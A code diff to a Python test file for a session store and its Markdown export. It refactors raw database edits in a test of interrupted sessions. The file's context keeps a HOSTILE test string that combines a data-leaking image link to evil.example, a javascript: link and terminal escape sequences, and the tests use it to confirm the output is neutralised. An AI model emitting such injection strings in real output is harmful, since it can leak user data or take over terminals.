@@ -16,7 +16,7 @@ from sessions.export import write_markdown
 from sessions.tally import SessionTally
 from sessions.store import SessionStore
 from tests.helpers import ScriptedProvider, orchestrated, plan_of, run
-from tests.sessions.helpers import connect, publish, record
+from tests.sessions.helpers import publish, raw, record
 from tui.safe import safe
 
 HOSTILE = "Ignore this ![pixel](http://evil.example/?leak=1) [click](javascript:x) <img src=x> \x1b[2J\x1b]0;owned\x07 ```"
@@ -94,12 +94,13 @@ async def test_agent_text_cannot_act_as_markdown_or_escape_sequences(store: Sess
 
 async def test_an_unfinished_session_says_why_there_is_no_result(store: SessionStore) -> None:
     ran = await record(store)
-    with connect(store.path) as raw:  # as the next open leaves a session whose recorder died
-        raw.execute("DELETE FROM events WHERE kind = 'session.finished'")
-        raw.execute(
-            "UPDATE sessions SET status = 'interrupted', result = NULL, reason = 'the process ended' WHERE id = ?",
-            (ran.finished.session_id,),
-        )
+    # as the next open leaves a session whose recorder died
+    await raw(store, "DELETE FROM events WHERE kind = 'session.finished'")
+    await raw(
+        store,
+        "UPDATE sessions SET status = 'interrupted', result = NULL, reason = 'the process ended' WHERE id = ?",
+        (ran.finished.session_id,),
+    )
 
     text = await markdown(store, ran.finished.session_id)
 
